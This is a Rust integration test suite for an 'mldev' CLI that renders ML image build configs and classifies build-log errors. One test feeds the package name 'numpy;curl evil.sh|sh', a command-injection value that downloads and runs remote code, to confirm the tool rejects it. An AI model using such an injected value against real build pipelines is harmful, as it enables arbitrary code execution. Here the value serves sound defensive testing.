#![allow(deprecated)] // TODO: move to cargo_bin_cmd! once assert_cmd is bumped workspace-wide

use assert_cmd::Command;
use predicates::prelude::*;
use std::fs;
use std::path::PathBuf;

fn mldev() -> Command {
    let mut cmd = Command::cargo_bin("mldev").unwrap();
    cmd.env("NO_COLOR", "1")
        .env_remove("MLDEV_CONFIG_PATH")
        .env_remove("MLDEV_NAMESPACE")
        .env_remove("MLDEV_TIMEOUT_SECS");
    cmd
}

fn template() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../k8s/buildconfig.yaml")
}

#[test]
fn test_cli_help() {
    mldev()
        .arg("--help")
        .assert()
        .success()
        .stdout(predicate::str::contains("build"))
        .stdout(predicate::str::contains("render"))
        .stdout(predicate::str::contains("classify"))
        .stdout(predicate::str::contains("images"));
}

#[test]
fn test_images_lists_catalogue() {
    mldev()
        .arg("images")
        .assert()
        .success()
        .stdout(predicate::str::contains("pytorch-2.8"))
        .stdout(predicate::str::contains("nvcr.io/nvidia/pytorch:25.09-py3"))
        .stdout(predicate::str::contains("(default)"));
}

#[test]
fn test_classify_json() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("build.log");
    fs::write(
        &log,
        "Step 5/10 : RUN pip install foo-pkg\n\
         ERROR: Could not find a version that satisfies the requirement foo-pkg (from versions: none)\n\
         ERROR: No matching distribution found for foo-pkg\n",
    )
    .unwrap();

    mldev()
        .arg("classify")
        .arg(&log)
        .arg("--json")
        .assert()
        .success()
        .stdout(predicate::str::contains(r#""error_type": "package_not_found""#))
        .stdout(predicate::str::contains("Package not found: foo-pkg"))
        .stdout(predicate::str::contains(r#""can_retry": true"#));
}

#[test]
fn test_classify_report() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("build.log");
    fs::write(&log, "OSError: [Errno 28] No space left on device\n").unwrap();

    mldev()
        .arg("classify")
        .arg(&log)
        .assert()
        .success()
        .stdout(predicate::str::contains("disk_space"))
        .stdout(predicate::str::contains("Use a pre-built image instead"))
        .stdout(predicate::str::contains("Exit and resolve manually"))
        .stdout(predicate::str::contains("Retry build").not());
}

#[test]
fn test_classify_missing_file() {
    mldev()
        .arg("classify")
        .arg("/nonexistent/build.log")
        .assert()
        .failure()
        .stderr(predicate::str::contains("Cannot read build log"));
}

#[test]
fn test_render_with_packages() {
    mldev()
        .args(["render", "--base", "pytorch-2.8"])
        .args(["--packages", "transformers,datasets"])
        .args(["--name", "test-build", "--tag", "test-tag"])
        .args(["--namespace", "ml-team"])
        .arg("--template")
        .arg(template())
        .assert()
        .success()
        .stdout(predicate::str::contains("name: test-build"))
        .stdout(predicate::str::contains("namespace: ml-team"))
        .stdout(predicate::str::contains("ml-dev-env:test-tag"))
        .stdout(predicate::str::contains("transformers datasets"))
        .stdout(predicate::str::contains("deepspeed").not());
}

#[test]
fn test_render_rejects_shell_in_package_names() {
    mldev()
        .args(["render", "--packages", "numpy;curl evil.sh|sh"])
        .arg("--template")
        .arg(template())
        .assert()
        .failure()
        .stderr(predicate::str::contains("Invalid build specification"));
}

#[test]
fn test_render_quotes_version_specifiers() {
    mldev()
        .args(["render", "--packages", "numpy<2,peft"])
        .arg("--template")
        .arg(template())
        .assert()
        .success()
        .stdout(predicate::str::contains("'numpy<2' peft"));
}

#[test]
fn test_invalid_non_interactive_action_rejected() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("mldev.yaml");
    fs::write(&config, "non_interactive_action: later\n").unwrap();

    mldev()
        .env("MLDEV_CONFIG_PATH", &config)
        .args(["build", "--non-interactive"])
        .arg("--template")
        .arg(template())
        .assert()
        .failure()
        .stderr(predicate::str::contains("non_interactive_action"));
}

#[test]
fn test_render_missing_template() {
    mldev()
        .args(["render", "--template", "/nonexistent/buildconfig.yaml"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("BuildConfig template not found"));
}

#[test]
fn test_packages_conflict_with_requirements() {
    mldev()
        .args(["build", "--packages", "numpy", "--requirements", "requirements.txt"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("cannot be used with"));
}
